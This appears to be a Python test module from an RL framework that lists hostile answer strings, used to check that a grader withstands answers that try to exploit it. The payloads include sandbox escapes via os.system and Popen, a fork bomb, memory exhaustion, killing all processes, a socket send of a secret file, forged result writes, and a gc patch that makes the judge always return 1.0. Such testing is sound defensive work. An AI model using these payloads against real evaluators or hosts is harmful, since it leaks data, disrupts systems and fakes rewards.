"""Answers that try to gain something from whatever judges them: by being executed, or by being read."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

from areal_core.launch.supervisor import CHILD_ENV

_MAKE = """
import json
from areal_core.environments.procedural_scores import _reasoning_gym, entry
made = {}
for name in sorted(_reasoning_gym()[1]):
    try:
        made[name] = {"answer": entry(name, "", 7, 0)["answer"]}
    except ValueError as error:
        made[name] = {"why": str(error)}
print("\\n" + json.dumps(made))
"""
_OS, _EVER = "__import__('os')", "iter(int, 1)"
_SUBCLASSES = "().__class__.__base__.__subclasses__()"


def made() -> dict[str, dict[str, Any]]:
    """Each data set's answer to an entry of its own, or why it has none, by the hash seed of a run's processes."""
    said = subprocess.run(
        [sys.executable, "-c", _MAKE], env=os.environ | CHILD_ENV, capture_output=True, text=True, check=True
    )
    return json.loads(said.stdout.splitlines()[-1])


def hostile_answers(mark: Path, secret: Path, port: int) -> dict[str, str]:
    """By name. None may make `mark`, or tell anybody at `port` what is in `secret`."""
    return {
        "tower": "9**9**9**9",
        "long power": "10**10**8",
        "symbolic tower": "x**x**x**x",
        "open brackets": "(" * 3000,
        "names of SymPy": "parse_expr(sstr(chr))(57)",  # by which Python's own functions would be in reach
        "many digits": "1" * 5000,
        "infinity": "-1e999",
        "cut list": "[[1,2],[3",
        "NUL": "\0",
        "command": f"{_OS}.system('touch {mark}')",
        "signs": "-" * 100_000 + "1",
        "exponent": "1e99999999999",
        "characters": "\ud800\0" + "\u0669" * 50_000,
        "subclass": f"[c for c in {_SUBCLASSES} if c.__name__ == 'Popen'][0](['touch', '{mark}'])",
        "patches": "[d.update(answer='', judge=lambda *_: 1.0, loads=list) for d in __import__('gc').get_objects()"
        " if isinstance(d, dict) and {'answer', 'judge', 'loads'} & {*d}]",
        "fork bomb": f"[{_OS}.fork() for _ in {_EVER}]",
        "memory": f"[bytearray(2**28) for _ in {_EVER}]",
        "network": f"__import__('socket').create_connection(('127.0.0.1', {port})).send(open('{secret}', 'rb').read())",
        "signals": f"[__import__('signal').signal(27, lambda *_: None), {_OS}.kill(-1, 9), [0 for _ in {_EVER}]]",
        "descriptors": f"[{_OS}.write(fd, b'[\"done\", 1.0]' * 9**6) for fd in range(64) if fd not in (1, 2)]"
        f" + [{_OS}.closerange(0, 64)]",
    }
